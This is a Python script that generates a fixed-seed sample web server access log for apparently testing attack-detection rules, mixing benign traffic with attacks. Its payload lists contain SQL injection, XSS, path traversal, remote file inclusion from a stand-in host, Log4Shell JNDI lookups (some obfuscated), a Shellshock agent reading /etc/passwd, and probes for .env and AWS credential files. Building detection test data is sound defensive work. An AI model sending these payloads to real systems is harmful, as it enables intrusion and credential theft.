"""Writes sample/access.log: a day of made-up web traffic with attacks, for conf/web-attacks.

Benign clients (10/8, 2001:db8::/32) read pages, search for words such as "select" and
"union", follow login redirects and long tracking links, and now and then hit a missing page.
Attackers (documentation addresses 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) inject SQL,
script, traversal and inclusion payloads, send Log4Shell and Shellshock exploits, probe for
secrets, run scanners and brute-force paths.
Lines are in the formats servers write: Apache/nginx combined, common, Apache vhost_combined,
nginx combined with a trailing X-Forwarded-For, IPv6 clients, `-` sizes, escaped quotes, and
one line cut off mid-field (a dead letter). Fixed seed: the file is the same at every run.

    python3 conf/web-attacks/sample/make_sample.py   # rewrites conf/web-attacks/sample/access.log
"""

from __future__ import annotations

import random
from datetime import datetime, timedelta, timezone
from pathlib import Path

SEED = 16
DAY = datetime(2025, 3, 3, tzinfo=timezone.utc)
OUT = Path(__file__).resolve().parent / "access.log"

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
]
PAGES = [
    "/",
    "/index.html",
    "/blog/",
    "/blog/2025/02/select-the-right-union-for-you.html",
    "/products/widgets",
    "/products/widgets?sort=price&order=asc",
    "/about",
    "/contact",
    "/css/site.css",
    "/js/app.js",
    "/img/logo.png",
    "/docs/sql/select-statement",
    "/downloads/tool-2.4.1.tar.gz",
    "/search?q=select+a+union+representative",
    "/search?q=how+to+use+union+select+in+sql",
    "/search?q=O%27Reilly+or+Manning+books",
    "/search?q=red+alert+%28movie%29",
    "/login?next=https%3A%2F%2Fshop.example.com%2Faccount%3Ftab%3Dorders",
    "/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2025&utm_content=hero+banner"
    "&utm_term=widgets+and+gadgets&fbclid=IwAR3xYzAbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
    "/viewer/web/viewer.html?file=https%3A%2F%2Fcdn.example.com%2Freports%2Fq4.pdf",
    "/api/items?filter=%7B%22name%22%3A%22widget%22%2C%22tags%22%3A%5B%22a%22%2C%22b%22%5D%7D",
    "/articles/onload-event-explained",
    "/search?q=%22exact+phrase%22+-excluded",
]
MISSING = ["/favicon.ico", "/apple-touch-icon.png", "/blog/2024/old-post.html", "/robots.txt"]

SQL_INJECTION = [
    "/products.php?id=1%27%20AND%201%3D1--%20-",
    "/products.php?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x7176%2C0x71%29--%20-",
    "/products.php?id=1%27%20AND%20SLEEP%285%29--%20-",
    "/products.php?id=1%2527%2520OR%2520%25271%2527%253D%25271",
    "/products.php?id=1/**/UNION/**/SELECT/**/1,2,table_name/**/FROM/**/information_schema.tables",
    "/products.php?id=-1+union+select+1,@@version,3",
]
XSS = [
    "/search?q=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E",
    "/search?q=%22%3E%3Csvg%2Fonload%3Dalert%281%29%3E",
    "/search?q=%253Cimg%2520src%253Dx%2520onerror%253Dprompt%25281%2529%253E",
    "/comment?text=&lt;script&gt;alert(1)&lt;/script&gt;",
    "/redirect?to=javascript:alert(1)",
]
TRAVERSAL = [
    "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "/download?file=%252e%252e%252f%252e%252e%252fwindows%252fwin.ini",
    "/static/..%5c..%5c..%5cboot.ini",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
]
INCLUSION = [
    "/index.php?page=http://192.0.2.66/shell.txt?",
    "/index.php?page=php://filter/convert.base64-encode/resource=config.php",
    "/index.php?mosConfig_absolute_path=http://192.0.2.66/r57.txt%00",
    "/index.php?page=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
]
SENSITIVE = [
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/wp-config.php.bak",
    "/backup.zip",
    "/db.sql",
    "/phpinfo.php",
    "/server-status",
    "/.aws/credentials",
    "/config.php.old",
    "/www.tar.gz",
    "/.DS_Store",
]
LOG4SHELL_AGENTS = [
    "${jndi:ldap://198.51.100.200:1389/Basic/Command/Base64/aWQ=}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://198.51.100.200/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.200/a}",
]
LOG4SHELL_TARGET = "/?q=%24%7Bjndi%3Adns%3A%2F%2F198.51.100.200%2Fz%7D"
SHELLSHOCK_AGENT = "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'"
WORDLIST = [
    "admin",
    "administrator",
    "backup",
    "cms",
    "console",
    "dashboard",
    "dev",
    "files",
    "images2",
    "include",
    "install",
    "lib",
    "logs",
    "manager",
    "old",
    "panel",
    "private",
    "secret",
    "setup",
    "staging",
    "system",
    "temp",
    "test",
    "tmp",
    "upload",
    "uploads",
    "user",
    "users",
    "v1",
    "v2",
    "vendor",
    "webadmin",
    "wordpress",
    "wp",
    "api-docs",
    "portal",
    "internal",
    "debug",
    "status2",
    "metrics2",
]


def stamp(when: datetime) -> str:
    return when.strftime("%d/%b/%Y:%H:%M:%S +0000")


def combined(ip: str, when: datetime, target: str, status: int, size: str, agent: str, ref: str = "-") -> str:
    return f'{ip} - - [{stamp(when)}] "GET {target} HTTP/1.1" {status} {size} "{ref}" "{agent}"'


def main() -> None:
    rng = random.Random(SEED)
    lines: list[tuple[datetime, str]] = []

    def at(hour: int, minute: int, second: int) -> datetime:
        return DAY + timedelta(hours=hour, minutes=minute, seconds=second)

    # Benign readers, all day: combined, common, vhost_combined and nginx-with-XFF lines.
    clients = [
        f"10.{rng.randrange(1, 250)}.{rng.randrange(0, 255)}.{rng.randrange(1, 254)}" for _ in range(40)
    ]
    clients += ["2001:db8:10::21", "2001:db8:10::5a"]
    for _ in range(1500):
        ip = rng.choice(clients)
        when = DAY + timedelta(seconds=rng.randrange(0, 86_400))
        if rng.random() < 0.04:
            target, status, size = rng.choice(MISSING), 404, str(rng.randrange(150, 400))
        else:
            target, status = rng.choice(PAGES), rng.choice([200, 200, 200, 304])
            size = "-" if status == 304 else str(rng.randrange(300, 90_000))
        agent = rng.choice(BROWSERS)
        style = rng.random()
        if style < 0.6:
            line = combined(ip, when, target, status, size, agent, "https://www.example.com/")
        elif style < 0.75:
            line = f'{ip} - - [{stamp(when)}] "GET {target} HTTP/1.1" {status} {size}'
        elif style < 0.9:
            line = "www.example.com:443 " + combined(ip, when, target, status, size, agent)
        else:
            line = combined(ip, when, target, status, size, agent) + f' "{rng.choice(clients)}"'
        lines.append((when, line))
    # A user agent with escaped quotes, and a line cut off inside its user agent.
    quoted_agent = 'Mozilla/5.0 \\"Quoted\\" Agent'
    lines.append((at(8, 1, 0), combined("10.1.2.3", at(8, 1, 0), "/about", 200, "5120", quoted_agent)))
    cut_off = '10.1.2.3 - - [03/Mar/2025:08:02:00 +0000] "GET /about HTTP/1.1" 200 5120 "-" "Mozilla/5.0 (X11'
    lines.append((at(8, 2, 0), cut_off))

    def attack(ip, hour, minute, targets, agent, status=404, spacing=3, vhost=None):
        for i, target in enumerate(targets):
            when = at(hour, minute, 0) + timedelta(seconds=spacing * i)
            line = combined(ip, when, target, status, str(rng.randrange(150, 500)), agent)
            lines.append((when, f"{vhost} {line}" if vhost else line))

    attack("203.0.113.10", 9, 12, SQL_INJECTION, "sqlmap/1.8.2#stable (https://sqlmap.org)", status=200)
    attack("203.0.113.20", 10, 31, XSS, BROWSERS[0], status=200)
    attack("203.0.113.30", 11, 5, TRAVERSAL, "curl/8.5.0", status=400)
    attack(
        "2001:db8:bad::7",
        11,
        44,
        TRAVERSAL[:2],
        "python-requests/2.31.0",
        status=400,
        vhost="shop.example.com:443",
    )
    attack("192.0.2.40", 12, 20, INCLUSION, "Mozilla/5.0 (compatible)", status=200)
    attack("198.51.100.50", 13, 2, SENSITIVE, "Go-http-client/1.1")
    wordlist = [f"/{word}/" for word in WORDLIST]
    attack("198.51.100.60", 14, 40, wordlist, "Mozilla/5.0 (X11; Linux x86_64)", spacing=1)
    attack(
        "198.51.100.70",
        15,
        15,
        ["/", "/admin/", "/cgi-bin/test.cgi", "/.git/HEAD", "/phpinfo.php"],
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000123)",
    )
    attack("192.0.2.80", 16, 0, ["/"], "Mozilla/5.0 zgrab/0.x", status=200)
    # Log4Shell: JNDI lookups in the user agent (plain and obfuscated) and the query string.
    for i, agent in enumerate(LOG4SHELL_AGENTS):
        attack("203.0.113.90", 17, 30 + i, ["/"], agent, status=200)
    attack("203.0.113.90", 17, 33, [LOG4SHELL_TARGET], BROWSERS[2], status=200)
    # Shellshock: bash function definitions in the agent of CGI requests.
    attack("198.51.100.95", 18, 5, ["/cgi-bin/status", "/cgi-bin/test.cgi"], SHELLSHOCK_AGENT)

    lines.sort(key=lambda item: item[0])
    OUT.write_text("".join(line + "\n" for _, line in lines), encoding="utf-8")


if __name__ == "__main__":
    main()
